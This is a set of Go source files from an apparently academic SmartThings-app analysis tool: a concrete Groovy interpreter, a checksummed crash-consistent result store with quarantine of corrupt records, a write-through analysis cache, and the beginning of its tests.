		record(perm.Cap.Name, eff.Attr, eff.Value)
	}
	if cmd.ArgAttr != "" && len(call.Args) > 0 {
		v := e.eval(call.Args[0], frame)
		record(perm.Cap.Name, cmd.ArgAttr, v.String())
	}
}

// DefaultDevices returns a concrete initial device assignment for an
// app: the first enum value of each attribute, zero for numerics.
func DefaultDevices(app *ir.App) map[string]string {
	out := map[string]string{}
	for _, p := range app.Devices() {
		if p.Cap == nil {
			continue
		}
		for _, a := range p.Cap.Attributes {
			key := p.Cap.Name + "." + a.Name
			switch a.Kind {
			case capability.Enum:
				if len(a.Values) > 0 {
					out[key] = a.Values[0]
				}
			case capability.Numeric:
				out[key] = "0"
			}
		}
	}
	if app.SubscribesToMode() {
		out["location.mode"] = "home"
	}
	return out
}
