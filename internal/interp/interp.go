// Package interp is a concrete interpreter for SmartThings apps: it
// executes event handlers on a concrete environment (device states,
// install-time configuration, persistent state variables) and applies
// device actions.
//
// Its role in the reproduction is differential validation of the
// static analysis: the state model extracted by internal/statemodel is
// a sound over-approximation, so every concrete step the interpreter
// takes must be simulated by a model transition. The differential
// tests drive random event sequences through both and compare
// (paper §6.2's manual true-positive verification, automated).
package interp

import (
	"fmt"
	"strconv"

	"github.com/soteria-analysis/soteria/internal/groovy"
	"github.com/soteria-analysis/soteria/internal/ir"
)

// Value is a concrete Groovy value.
type Value struct {
	Kind ValKind
	Num  float64
	Str  string
	Bool bool
}

// ValKind tags concrete values.
type ValKind int

// Value kinds.
const (
	Null ValKind = iota
	Num
	Str
	Bool
)

// NumV, StrV, BoolV construct concrete values.
func NumV(v float64) Value { return Value{Kind: Num, Num: v} }
func StrV(s string) Value  { return Value{Kind: Str, Str: s} }
func BoolV(b bool) Value   { return Value{Kind: Bool, Bool: b} }

func (v Value) String() string {
	switch v.Kind {
	case Num:
		return strconv.FormatFloat(v.Num, 'g', -1, 64)
	case Str:
		return v.Str
	case Bool:
		return strconv.FormatBool(v.Bool)
	}
	return "null"
}

// truthy implements Groovy truth: null and empty strings are false,
// zero is false.
func (v Value) truthy() bool {
	switch v.Kind {
	case Bool:
		return v.Bool
	case Num:
		return v.Num != 0
	case Str:
		return v.Str != ""
	}
	return false
}

// Action is one concrete device actuation.
type Action struct {
	Cap   string
	Attr  string
	Value string
}

// Env is a concrete execution environment for one app.
type Env struct {
	App *ir.App
	// Devices maps "capability.attribute" (the state model's canonical
	// keys) to the current concrete value; numeric attributes are
	// stored as their decimal rendering.
	Devices map[string]string
	// Config holds install-time user inputs by handle.
	Config map[string]Value
	// State holds the persistent state/atomicState fields.
	State map[string]Value
	// Trace accumulates the actions of the last Fire call.
	Trace []Action

	depth    int
	err      error
	evtValue string
	evtParam string
}

// NewEnv creates an environment with the given device state and
// configuration.
func NewEnv(app *ir.App, devices map[string]string, config map[string]Value) *Env {
	d := map[string]string{}
	for k, v := range devices {
		d[k] = v
	}
	c := map[string]Value{}
	for k, v := range config {
		c[k] = v
	}
	return &Env{App: app, Devices: d, Config: c, State: map[string]Value{}}
}

// capKeyFor maps a device handle and attribute to the canonical key.
func (e *Env) capKeyFor(handle, attr string) (string, bool) {
	if handle == "location" {
		return "location." + attr, true
	}
	p, ok := e.App.PermissionByHandle(handle)
	if !ok || p.Cap == nil {
		return "", false
	}
	return p.Cap.Name + "." + attr, true
}

// Fire delivers one event: it sets the triggering attribute to the
// event value (device and mode events), then runs the subscription's
// handler concretely. The returned actions are also applied to
// Devices.
func (e *Env) Fire(sub ir.Subscription, value string) ([]Action, error) {
	e.Trace = nil
	e.err = nil
	switch sub.Kind {
	case ir.DeviceEvent:
		if key, ok := e.capKeyFor(sub.Handle, sub.Attr); ok {
			e.Devices[key] = value
		}
	case ir.ModeEvent:
		e.Devices["location.mode"] = value
	}
	h := e.App.File.MethodByName(sub.Handler)
	if h == nil {
		return nil, fmt.Errorf("interp: handler %q not found", sub.Handler)
	}
	frame := map[string]Value{}
	e.evtValue = value
	e.evtParam = ""
	if len(h.Params) > 0 {
		e.evtParam = h.Params[0]
	}
	e.execBlock(h.Body, frame)
	return e.Trace, e.err
}

func (e *Env) fail(format string, args ...any) {
	if e.err == nil {
		e.err = fmt.Errorf("interp: "+format, args...)
	}
}

const maxDepth = 16

// execBlock executes statements; returns the return value if a return
// statement ran (nil otherwise), with doneReturn indicating it.
func (e *Env) execBlock(b *groovy.Block, frame map[string]Value) (Value, bool) {
	if b == nil {
		return Value{}, false
	}
	for _, s := range b.Stmts {
		if v, done := e.execStmt(s, frame); done {
			return v, true
		}
		if e.err != nil {
			return Value{}, false
		}
	}
	return Value{}, false
}

func (e *Env) execStmt(s groovy.Stmt, frame map[string]Value) (Value, bool) {
	switch st := s.(type) {
	case *groovy.ExprStmt:
		e.eval(st.X, frame)
	case *groovy.DeclStmt:
		if st.Init != nil {
			frame[st.Name] = e.eval(st.Init, frame)
		} else {
			frame[st.Name] = Value{}
		}
	case *groovy.AssignStmt:
		v := e.eval(st.RHS, frame)
		e.assign(st.LHS, v, st.Op, frame)
	case *groovy.IncDecStmt:
		if id, ok := st.X.(*groovy.Ident); ok {
			cur := frame[id.Name]
			d := 1.0
			if st.Decr {
				d = -1
			}
			frame[id.Name] = NumV(cur.Num + d)
		} else if f, ok := ir.StateFieldRef(st.X); ok {
			cur := e.State[f]
			d := 1.0
			if st.Decr {
				d = -1
			}
			e.State[f] = NumV(cur.Num + d)
		}
	case *groovy.IfStmt:
		if e.eval(st.Cond, frame).truthy() {
			return e.execBlock(st.Then, frame)
		}
		if st.Else != nil {
			switch el := st.Else.(type) {
			case *groovy.Block:
				return e.execBlock(el, frame)
			default:
				return e.execStmt(el, frame)
			}
		}
	case *groovy.WhileStmt:
		for i := 0; i < 100 && e.eval(st.Cond, frame).truthy(); i++ {
			if v, done := e.execBlock(st.Body, frame); done {
				return v, true
			}
			if e.err != nil {
				return Value{}, false
			}
		}
	case *groovy.ForInStmt:
		// Collections are not modeled concretely; execute the body once
		// with a null loop variable (mirrors the static analysis).
		frame[st.Var] = Value{}
		return e.execBlock(st.Body, frame)
	case *groovy.SwitchStmt:
		tag := e.eval(st.Tag, frame)
		var defaultBody []groovy.Stmt
		for _, c := range st.Cases {
			if c.Value == nil {
				defaultBody = c.Body
				continue
			}
			if equal(tag, e.eval(c.Value, frame)) {
				return e.execBlock(&groovy.Block{Stmts: c.Body}, frame)
			}
		}
		if defaultBody != nil {
			return e.execBlock(&groovy.Block{Stmts: defaultBody}, frame)
		}
	case *groovy.ReturnStmt:
		if st.X != nil {
			return e.eval(st.X, frame), true
		}
		return Value{}, true
	case *groovy.BreakStmt, *groovy.ContinueStmt:
		// Loops run bounded; treat as end of iteration.
	case *groovy.Block:
		return e.execBlock(st, frame)
	}
	return Value{}, false
}

func (e *Env) assign(lhs groovy.Expr, v Value, op groovy.TokKind, frame map[string]Value) {
	apply := func(cur Value) Value {
		switch op {
		case groovy.PLUSASSIGN:
			return NumV(cur.Num + v.Num)
		case groovy.MINUSASSIGN:
			return NumV(cur.Num - v.Num)
		}
		return v
	}
	switch l := lhs.(type) {
	case *groovy.Ident:
		frame[l.Name] = apply(frame[l.Name])
	case *groovy.PropExpr:
		if f, ok := ir.StateFieldRef(l); ok {
			e.State[f] = apply(e.State[f])
		}
	}
}

func equal(a, b Value) bool {
	if a.Kind == Num && b.Kind == Num {
		return a.Num == b.Num
	}
	return a.String() == b.String() && a.Kind == b.Kind
}
