// Package store is the persistent, content-addressed result store of
// the serving tier. It maps an analysis key — the hash of an item's
// sources plus every verdict-affecting option (core.AnalysisKey) — to
// a schema-versioned report.Record on disk, with an in-memory LRU
// front for hot keys.
//
// Guarantees:
//
//   - Crash-consistent writes: a record is written to a temp file,
//     fsynced, renamed into place, and the directory is fsynced — so
//     readers (including readers in other processes) never observe a
//     partial record, and neither a process crash nor a power cut
//     mid-write can replace a good record with a torn one.
//   - Self-verifying records: every record carries a length-prefixed
//     checksum header ("soteria-record 2 <len> <crc32>"), so torn or
//     bit-rotted content is detected on read, not trusted. Records
//     written before the header existed (bare JSON) are still read.
//   - Corruption tolerance: a record that fails its checksum or does
//     not decode is counted, quarantined into the quarantine/
//     subdirectory with a reason suffix (never deleted — corrupt
//     artifacts stay inspectable post-mortem), and reported as a miss;
//     the caller simply re-analyzes and overwrites it. Corruption is
//     never an error surfaced to the serving path.
//   - Startup recovery: Open sweeps temp files left by a crashed
//     writer and scans every record, quarantining torn or truncated
//     ones before they can be served.
//   - Determinism: records are canonical JSON (report.Encode), so a
//     re-analysis of the same input rewrites byte-identical content.
//
// All file I/O goes through an injectable fsio.FS, so tests simulate
// short writes, fsync failures, and rename crashes at exact protocol
// steps (fsio.Faulty), and the kill-restart chaos harness widens crash
// windows (fsio.Chaos).
package store

import (
	"bytes"
	"container/list"
	"fmt"
	"hash/crc32"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"

	"github.com/soteria-analysis/soteria/internal/fsio"
	"github.com/soteria-analysis/soteria/internal/report"
)

// Options configures a store.
type Options struct {
	// MaxMemEntries bounds the in-memory LRU front (0 = DefaultMemEntries).
	// Evicting from the front never loses data — the record stays on disk.
	MaxMemEntries int
	// FS overrides the filesystem (nil = fsio.OS{}). Tests inject
	// fsio.Faulty; the chaos harness injects fsio.Chaos.
	FS fsio.FS
	// NoRecoveryScan skips Open's full-directory integrity scan (temp
	// files are still swept). Reads verify checksums regardless, so
	// skipping the scan trades startup cost for lazier quarantine.
	NoRecoveryScan bool
}

// DefaultMemEntries is the LRU front capacity when Options doesn't set one.
const DefaultMemEntries = 256

// QuarantineDir is the subdirectory (under the store root) that
// receives corrupt records. Files in it are named
// <key>.json.<reason>, reason one of "torn", "badsum", "decode".
const QuarantineDir = "quarantine"

// recordMagic opens every checksummed record file; the header line is
// "soteria-record 2 <payload-len> <crc32-ieee-hex>\n".
const recordMagic = "soteria-record 2 "

// Stats are the store's monotonic counters, for /metrics and tests.
type Stats struct {
	// Hits = MemHits + DiskHits; Misses counts absent or quarantined keys.
	Hits, MemHits, DiskHits, Misses int64
	// Puts counts successful writes; Evictions counts LRU-front drops
	// (the records remain on disk); Corrupt counts quarantined records
	// — from reads and from Open's recovery scan alike.
	Puts, Evictions, Corrupt int64
}

// RecoveryStats describe what Open's crash-recovery pass found.
type RecoveryStats struct {
	// TempsSwept counts orphan .tmp-* files removed.
	TempsSwept int
	// Quarantined counts records the startup scan moved to quarantine/.
	Quarantined int
	// Scanned counts records the startup scan verified.
	Scanned int
}

// Store is a disk-backed record store with an LRU front. All methods
// are safe for concurrent use. A nil *Store is inert: Get misses, Put
// drops, Stats is zero — so an optional store can be threaded through
// unconditionally.
type Store struct {
	dir string
	fs  fsio.FS
	max int

	mu   sync.Mutex
	mem  map[string]*list.Element
	lru  *list.List // of *memEntry, front = most recently used
	hits struct{ mem, disk atomic.Int64 }

	misses, puts, evictions, corrupt atomic.Int64

	recovery RecoveryStats
}

type memEntry struct {
	key string
	rec *report.Record
}

// Open creates or reopens a store rooted at dir: the directory (and
// its quarantine/ subdirectory) is created as needed, temp files left
// by a crashed writer are swept, and — unless opts.NoRecoveryScan —
// every record is verified and torn ones are quarantined before the
// store serves its first read.
func Open(dir string, opts Options) (*Store, error) {
	if dir == "" {
		return nil, fmt.Errorf("store: empty directory")
	}
	fsys := opts.FS
	if fsys == nil {
		fsys = fsio.OS{}
	}
	if err := fsys.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("store: %w", err)
	}
	if err := fsys.MkdirAll(filepath.Join(dir, QuarantineDir), 0o755); err != nil {
		return nil, fmt.Errorf("store: %w", err)
	}
	max := opts.MaxMemEntries
	if max <= 0 {
		max = DefaultMemEntries
	}
	s := &Store{
		dir: dir,
		fs:  fsys,
		max: max,
		mem: map[string]*list.Element{},
		lru: list.New(),
	}
	if err := s.recover(!opts.NoRecoveryScan); err != nil {
		return nil, err
	}
	return s, nil
}

// recover is Open's crash-recovery pass: remove orphan temp files,
// and (when scan is set) verify every record, quarantining failures.
func (s *Store) recover(scan bool) error {
	entries, err := s.fs.ReadDir(s.dir)
	if err != nil {
		return fmt.Errorf("store: recovery scan: %w", err)
	}
	for _, e := range entries {
		name := e.Name()
		switch {
		case e.IsDir():
			// quarantine/ and unrelated subdirectories are not records.
		case strings.HasPrefix(name, ".tmp-"):
			if s.fs.Remove(filepath.Join(s.dir, name)) == nil {
				s.recovery.TempsSwept++
			}
		case scan && strings.HasSuffix(name, ".json"):
			key := strings.TrimSuffix(name, ".json")
			if !ValidKey(key) {
				continue
			}
			s.recovery.Scanned++
			data, err := s.fs.ReadFile(s.path(key))
			if err != nil {
				continue
			}
			if _, reason, err := decodeRecord(data); err != nil {
				s.quarantine(key, reason)
				s.recovery.Quarantined++
			}
		}
	}
	return nil
}

// Recovery reports what the crash-recovery pass of Open found.
func (s *Store) Recovery() RecoveryStats {
	if s == nil {
		return RecoveryStats{}
	}
	return s.recovery
}

// ValidKey reports whether key is a well-formed content address
// (lowercase hex, 16–128 chars). Used both internally and by the HTTP
// layer to reject path-traversal attempts before they reach the disk.
func ValidKey(key string) bool {
	if len(key) < 16 || len(key) > 128 {
		return false
	}
	for i := 0; i < len(key); i++ {
		c := key[i]
		if (c < '0' || c > '9') && (c < 'a' || c > 'f') {
			return false
		}
	}
	return true
}

func (s *Store) path(key string) string {
	return filepath.Join(s.dir, key+".json")
}

// quarantine moves the record under key aside into quarantine/
// <key>.json.<reason>, preserving the corrupt bytes for post-mortem
// inspection; if the move itself fails the file is removed so it can
// never shadow a re-analysis. Counted in Stats.Corrupt either way.
func (s *Store) quarantine(key, reason string) {
	dst := filepath.Join(s.dir, QuarantineDir, key+".json."+reason)
	if err := s.fs.Rename(s.path(key), dst); err != nil {
		// Best-effort: a concurrent Put may already have replaced the
		// file, or the quarantine dir may be unwritable.
		s.fs.Remove(s.path(key))
	}
	s.corrupt.Add(1)
}

// encodeRecord frames a canonical payload with the length-prefixed
// checksum header.
func encodeRecord(payload []byte) []byte {
	header := fmt.Sprintf("%s%d %08x\n", recordMagic, len(payload), crc32.ChecksumIEEE(payload))
	out := make([]byte, 0, len(header)+len(payload))
	out = append(out, header...)
	return append(out, payload...)
}

// decodeRecord verifies and decodes a record file. On failure it
// returns the quarantine reason: "torn" for a truncated or
// length-mismatched file, "badsum" for a checksum mismatch, "decode"
// for content that fails report.Decode (including wrong schema).
func decodeRecord(data []byte) (*report.Record, string, error) {
	if !bytes.HasPrefix(data, []byte(recordMagic)) {
		// Legacy record (pre-header store): bare canonical JSON.
		rec, err := report.Decode(data)
		if err != nil {
			return nil, "decode", err
		}
		return rec, "", nil
	}
	rest := data[len(recordMagic):]
	nl := bytes.IndexByte(rest, '\n')
	if nl < 0 {
		return nil, "torn", fmt.Errorf("store: record header has no terminator")
	}
	fields := strings.Fields(string(rest[:nl]))
	if len(fields) != 2 {
		return nil, "torn", fmt.Errorf("store: malformed record header")
	}
	length, err := strconv.Atoi(fields[0])
	if err != nil {
		return nil, "torn", fmt.Errorf("store: malformed record length: %w", err)
	}
	sum, err := strconv.ParseUint(fields[1], 16, 32)
	if err != nil {
		return nil, "torn", fmt.Errorf("store: malformed record checksum: %w", err)
	}
	payload := rest[nl+1:]
	if len(payload) != length {
		return nil, "torn", fmt.Errorf("store: record payload is %d bytes, header says %d", len(payload), length)
	}
	if crc32.ChecksumIEEE(payload) != uint32(sum) {
		return nil, "badsum", fmt.Errorf("store: record checksum mismatch")
	}
	rec, err := report.Decode(payload)
	if err != nil {
		return nil, "decode", err
	}
	return rec, "", nil
}

// Get returns the record stored under key. Missing, invalid, and
// corrupt entries are all misses.
func (s *Store) Get(key string) (*report.Record, bool) {
	if s == nil || !ValidKey(key) {
		s.countMiss()
		return nil, false
	}
	s.mu.Lock()
	if el, ok := s.mem[key]; ok {
		s.lru.MoveToFront(el)
		rec := el.Value.(*memEntry).rec
		s.mu.Unlock()
		s.hits.mem.Add(1)
		return rec, true
	}
	s.mu.Unlock()

	data, err := s.fs.ReadFile(s.path(key))
	if err != nil {
		s.misses.Add(1)
		return nil, false
	}
	rec, reason, err := decodeRecord(data)
	if err != nil {
		// Quarantine: a record we cannot trust must not shadow a
		// re-analysis — and must stay inspectable.
		s.quarantine(key, reason)
		s.misses.Add(1)
		return nil, false
	}
	s.promote(key, rec)
	s.hits.disk.Add(1)
	return rec, true
}

// Put stores a record under key with the full crash-consistency
// protocol: checksummed frame → temp file → fsync → rename → directory
// fsync — then promotion into the LRU front.
func (s *Store) Put(key string, rec *report.Record) error {
	if s == nil {
		return nil
	}
	if !ValidKey(key) {
		return fmt.Errorf("store: invalid key %q", key)
	}
	payload, err := report.Encode(rec)
	if err != nil {
		return err
	}
	data := encodeRecord(payload)
	tmp, err := s.fs.CreateTemp(s.dir, ".tmp-*")
	if err != nil {
		return fmt.Errorf("store: %w", err)
	}
	_, werr := tmp.Write(data)
	if werr == nil {
		werr = tmp.Sync()
	}
	cerr := tmp.Close()
	if werr == nil {
		werr = cerr
	}
	if werr == nil {
		werr = s.fs.Rename(tmp.Name(), s.path(key))
	}
	if werr != nil {
		s.fs.Remove(tmp.Name())
		return fmt.Errorf("store: writing %s: %w", key, werr)
	}
	// The record is in place and fsynced; a failed directory fsync can
	// only lose the directory entry to a power cut, and the next Open's
	// scan re-verifies whatever survives — so don't fail the Put.
	_ = s.fs.SyncDir(s.dir)
	s.promote(key, rec)
	s.puts.Add(1)
	return nil
}

// promote inserts or refreshes key at the front of the LRU, evicting
// past the capacity bound.
func (s *Store) promote(key string, rec *report.Record) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if el, ok := s.mem[key]; ok {
		el.Value.(*memEntry).rec = rec
		s.lru.MoveToFront(el)
		return
	}
	s.mem[key] = s.lru.PushFront(&memEntry{key: key, rec: rec})
	for s.lru.Len() > s.max {
		oldest := s.lru.Back()
		s.lru.Remove(oldest)
		delete(s.mem, oldest.Value.(*memEntry).key)
		s.evictions.Add(1)
	}
}

func (s *Store) countMiss() {
	if s != nil {
		s.misses.Add(1)
	}
}

// Stats reports the store's counters.
func (s *Store) Stats() Stats {
	if s == nil {
		return Stats{}
	}
	mem, disk := s.hits.mem.Load(), s.hits.disk.Load()
	return Stats{
		Hits:      mem + disk,
		MemHits:   mem,
		DiskHits:  disk,
		Misses:    s.misses.Load(),
		Puts:      s.puts.Load(),
		Evictions: s.evictions.Load(),
		Corrupt:   s.corrupt.Load(),
	}
}

// Len reports the LRU-front entry count and the number of records on
// disk (the latter by directory scan — diagnostics, not a hot path).
func (s *Store) Len() (mem, disk int) {
	if s == nil {
		return 0, 0
	}
	s.mu.Lock()
	mem = len(s.mem)
	s.mu.Unlock()
	entries, err := s.fs.ReadDir(s.dir)
	if err != nil {
		return mem, 0
	}
	for _, e := range entries {
		if !e.IsDir() && strings.HasSuffix(e.Name(), ".json") {
			disk++
		}
	}
	return mem, disk
}
