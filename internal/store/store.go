// Package store is the persistent, content-addressed result store of
// the serving tier. It maps an analysis key — the hash of an item's
// sources plus every verdict-affecting option (core.AnalysisKey) — to
// a schema-versioned report.Record on disk, with an in-memory LRU
// front for hot keys.
//
// Guarantees:
//
//   - Atomic writes: a record is written to a temp file in the store
//     directory and renamed into place, so readers (including readers
//     in other processes) never observe a partial record, and a crash
//     mid-write leaves only a temp file that the next Open sweeps away.
//   - Corruption tolerance: a record that fails to decode — truncated,
//     hand-edited, or written by a different schema version — is
//     counted, quarantined (removed), and reported as a miss; the
//     caller simply re-analyzes and overwrites it. Corruption is never
//     an error surfaced to the serving path.
//   - Determinism: records are canonical JSON (report.Encode), so a
//     re-analysis of the same input rewrites byte-identical content.
package store

import (
	"container/list"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"

	"github.com/soteria-analysis/soteria/internal/report"
)

// Options configures a store.
type Options struct {
	// MaxMemEntries bounds the in-memory LRU front (0 = DefaultMemEntries).
	// Evicting from the front never loses data — the record stays on disk.
	MaxMemEntries int
}

// DefaultMemEntries is the LRU front capacity when Options doesn't set one.
const DefaultMemEntries = 256

// Stats are the store's monotonic counters, for /metrics and tests.
type Stats struct {
	// Hits = MemHits + DiskHits; Misses counts absent or quarantined keys.
	Hits, MemHits, DiskHits, Misses int64
	// Puts counts successful writes; Evictions counts LRU-front drops
	// (the records remain on disk); Corrupt counts quarantined records.
	Puts, Evictions, Corrupt int64
}

// Store is a disk-backed record store with an LRU front. All methods
// are safe for concurrent use. A nil *Store is inert: Get misses, Put
// drops, Stats is zero — so an optional store can be threaded through
// unconditionally.
type Store struct {
	dir string
	max int

	mu   sync.Mutex
	mem  map[string]*list.Element
	lru  *list.List // of *memEntry, front = most recently used
	hits struct{ mem, disk atomic.Int64 }

	misses, puts, evictions, corrupt atomic.Int64
}

type memEntry struct {
	key string
	rec *report.Record
}

// Open creates or reopens a store rooted at dir, creating the
// directory as needed and sweeping temp files left by a crashed
// writer.
func Open(dir string, opts Options) (*Store, error) {
	if dir == "" {
		return nil, fmt.Errorf("store: empty directory")
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("store: %w", err)
	}
	tmps, _ := filepath.Glob(filepath.Join(dir, ".tmp-*"))
	for _, t := range tmps {
		os.Remove(t)
	}
	max := opts.MaxMemEntries
	if max <= 0 {
		max = DefaultMemEntries
	}
	return &Store{
		dir: dir,
		max: max,
		mem: map[string]*list.Element{},
		lru: list.New(),
	}, nil
}

// ValidKey reports whether key is a well-formed content address
// (lowercase hex, 16–128 chars). Used both internally and by the HTTP
// layer to reject path-traversal attempts before they reach the disk.
func ValidKey(key string) bool {
	if len(key) < 16 || len(key) > 128 {
		return false
	}
	for i := 0; i < len(key); i++ {
		c := key[i]
		if (c < '0' || c > '9') && (c < 'a' || c > 'f') {
			return false
		}
	}
	return true
}

func (s *Store) path(key string) string {
	return filepath.Join(s.dir, key+".json")
}

// Get returns the record stored under key. Missing, invalid, and
// corrupt entries are all misses.
func (s *Store) Get(key string) (*report.Record, bool) {
	if s == nil || !ValidKey(key) {
		s.countMiss()
		return nil, false
	}
	s.mu.Lock()
	if el, ok := s.mem[key]; ok {
		s.lru.MoveToFront(el)
		rec := el.Value.(*memEntry).rec
		s.mu.Unlock()
		s.hits.mem.Add(1)
		return rec, true
	}
	s.mu.Unlock()

	data, err := os.ReadFile(s.path(key))
	if err != nil {
		s.misses.Add(1)
		return nil, false
	}
	rec, err := report.Decode(data)
	if err != nil {
		// Quarantine: a record we cannot trust must not shadow a
		// re-analysis. Removal is best-effort — a concurrent Put may
		// already have replaced the file.
		os.Remove(s.path(key))
		s.corrupt.Add(1)
		s.misses.Add(1)
		return nil, false
	}
	s.promote(key, rec)
	s.hits.disk.Add(1)
	return rec, true
}

// Put stores a record under key: atomic write to disk, then promotion
// into the LRU front.
func (s *Store) Put(key string, rec *report.Record) error {
	if s == nil {
		return nil
	}
	if !ValidKey(key) {
		return fmt.Errorf("store: invalid key %q", key)
	}
	data, err := report.Encode(rec)
	if err != nil {
		return err
	}
	tmp, err := os.CreateTemp(s.dir, ".tmp-*")
	if err != nil {
		return fmt.Errorf("store: %w", err)
	}
	_, werr := tmp.Write(data)
	cerr := tmp.Close()
	if werr == nil {
		werr = cerr
	}
	if werr == nil {
		werr = os.Rename(tmp.Name(), s.path(key))
	}
	if werr != nil {
		os.Remove(tmp.Name())
		return fmt.Errorf("store: writing %s: %w", key, werr)
	}
	s.promote(key, rec)
	s.puts.Add(1)
	return nil
}

// promote inserts or refreshes key at the front of the LRU, evicting
// past the capacity bound.
func (s *Store) promote(key string, rec *report.Record) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if el, ok := s.mem[key]; ok {
		el.Value.(*memEntry).rec = rec
		s.lru.MoveToFront(el)
		return
	}
	s.mem[key] = s.lru.PushFront(&memEntry{key: key, rec: rec})
	for s.lru.Len() > s.max {
		oldest := s.lru.Back()
		s.lru.Remove(oldest)
		delete(s.mem, oldest.Value.(*memEntry).key)
		s.evictions.Add(1)
	}
}

func (s *Store) countMiss() {
	if s != nil {
		s.misses.Add(1)
	}
}

// Stats reports the store's counters.
func (s *Store) Stats() Stats {
	if s == nil {
		return Stats{}
	}
	mem, disk := s.hits.mem.Load(), s.hits.disk.Load()
	return Stats{
		Hits:      mem + disk,
		MemHits:   mem,
		DiskHits:  disk,
		Misses:    s.misses.Load(),
		Puts:      s.puts.Load(),
		Evictions: s.evictions.Load(),
		Corrupt:   s.corrupt.Load(),
	}
}

// Len reports the LRU-front entry count and the number of records on
// disk (the latter by directory scan — diagnostics, not a hot path).
func (s *Store) Len() (mem, disk int) {
	if s == nil {
		return 0, 0
	}
	s.mu.Lock()
	mem = len(s.mem)
	s.mu.Unlock()
	entries, err := os.ReadDir(s.dir)
	if err != nil {
		return mem, 0
	}
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), ".json") {
			disk++
		}
	}
	return mem, disk
}
