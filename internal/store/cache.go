package store

import (
	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/report"
)

// AnalysisCache adapts a Store (plus an in-process core.Cache front)
// to the core.ResultCache interface, upgrading PR 2's process-lifetime
// memoization to cross-restart memoization:
//
//   - Lookup tries the in-process cache first — a hit there returns
//     the original *core.Analysis with its full model, so post-hoc
//     formula checks still work. On a miss it falls back to the disk
//     store and rehydrates the persisted record into a model-less
//     analysis (verdicts, checked set, diagnostics — see
//     report.ToAnalysis for the fidelity contract).
//   - Store writes through: the live analysis is kept in process, and
//     its record form is persisted for the next process.
//
// It also forwards SourceParser to the in-process cache, so batch runs
// keep per-source IR memoization.
//
// The persistent level is any Backend: the local disk Store for a
// single node, the cluster's peer-routed backend for a fleet — the
// pipeline cannot tell the difference.
type AnalysisCache struct {
	mem  *core.Cache
	disk Backend
}

// NewAnalysisCache creates a write-through cache over disk. A nil disk
// backend degrades to in-process memoization only.
func NewAnalysisCache(disk Backend) *AnalysisCache {
	if disk == nil {
		disk = (*Store)(nil) // nil *Store is inert: misses, drops, zero stats
	}
	return &AnalysisCache{mem: core.NewCache(), disk: disk}
}

var _ core.ResultCache = (*AnalysisCache)(nil)
var _ core.SourceParser = (*AnalysisCache)(nil)

// LookupAnalysis implements core.ResultCache.
func (c *AnalysisCache) LookupAnalysis(key string) (*core.Analysis, bool) {
	if c == nil {
		return nil, false
	}
	if an, ok := c.mem.LookupAnalysis(key); ok {
		return an, true
	}
	if rec, ok := c.disk.Get(key); ok {
		an := report.ToAnalysis(rec)
		// Keep the rehydrated analysis in process so repeated lookups
		// skip the disk read and decode.
		c.mem.StoreAnalysis(key, an)
		return an, true
	}
	return nil, false
}

// StoreAnalysis implements core.ResultCache. Partial analyses are not
// persisted (an Incomplete verdict reflects one run's budget, not the
// input); the in-process level applies the same rule.
func (c *AnalysisCache) StoreAnalysis(key string, an *core.Analysis) {
	if c == nil || an == nil || an.Incomplete {
		return
	}
	c.mem.StoreAnalysis(key, an)
	// Persistence is best-effort: a full disk degrades the store to
	// process-lifetime caching rather than failing analyses.
	_ = c.disk.Put(key, report.FromAnalysis(an))
}

// Stats implements core.ResultCache, merging both levels: hit/miss/
// eviction counters come from the in-process front plus the disk
// store, entry counts from the in-process level.
func (c *AnalysisCache) Stats() core.CacheStats {
	if c == nil {
		return core.CacheStats{}
	}
	st := c.mem.Stats()
	ds := c.disk.Stats()
	return core.CacheStats{
		Hits:      st.Hits + ds.Hits,
		Misses:    st.Misses + ds.Misses,
		Evictions: st.Evictions + ds.Evictions,
		IREntries: st.IREntries,
		Analyses:  st.Analyses,
	}
}

// ParseSource implements core.SourceParser via the in-process cache.
func (c *AnalysisCache) ParseSource(s core.NamedSource) (*ir.App, error) {
	if c == nil {
		return ir.BuildSource(s.Name, s.Source)
	}
	return c.mem.ParseSource(s)
}
