package store

import (
	"testing"

	"github.com/soteria-analysis/soteria/internal/core"
)

// TestAnalysisCacheDiskFallbackAndPromotion drives the two-level
// lookup path: a fresh AnalysisCache over a warm store directory must
// miss in process, hit on disk, and promote so the next lookup is a
// memory hit — all visible in the merged Stats.
func TestAnalysisCacheDiskFallbackAndPromotion(t *testing.T) {
	dir := t.TempDir()
	warm := NewAnalysisCache(open(t, dir, Options{}))
	warm.StoreAnalysis(key(1), &core.Analysis{Checked: []string{"P.1"}})

	cold := NewAnalysisCache(open(t, dir, Options{}))
	an, ok := cold.LookupAnalysis(key(1))
	if !ok || len(an.Checked) != 1 || an.Checked[0] != "P.1" {
		t.Fatalf("disk fallback lookup = %+v, %v", an, ok)
	}
	if st := cold.disk.Stats(); st.DiskHits != 1 {
		t.Fatalf("disk stats after fallback: %+v", st)
	}
	// The rehydrated analysis was promoted into the process cache: the
	// repeat lookup must not touch the disk store again.
	before := cold.disk.Stats()
	if _, ok := cold.LookupAnalysis(key(1)); !ok {
		t.Fatalf("promoted lookup missed")
	}
	if after := cold.disk.Stats(); after.Hits != before.Hits {
		t.Fatalf("promoted lookup read disk: %+v → %+v", before, after)
	}
}

// TestAnalysisCacheEvictionInterplay bounds the store's memory front
// far below the working set: evictions must show up in the merged
// Stats, and every evicted record must still be served (from disk)
// through the cache.
func TestAnalysisCacheEvictionInterplay(t *testing.T) {
	dir := t.TempDir()
	const n = 8
	c := NewAnalysisCache(open(t, dir, Options{MaxMemEntries: 2}))
	for i := 0; i < n; i++ {
		if err := c.disk.Put(key(i), testRecord(i)); err != nil {
			t.Fatalf("Put %d: %v", i, err)
		}
	}
	if st := c.Stats(); st.Evictions != n-2 {
		t.Fatalf("merged evictions = %d, want %d (full stats %+v)", st.Evictions, n-2, st)
	}
	for i := 0; i < n; i++ {
		if an, ok := c.LookupAnalysis(key(i)); !ok || an == nil {
			t.Fatalf("evicted record %d not served through cache", i)
		}
	}
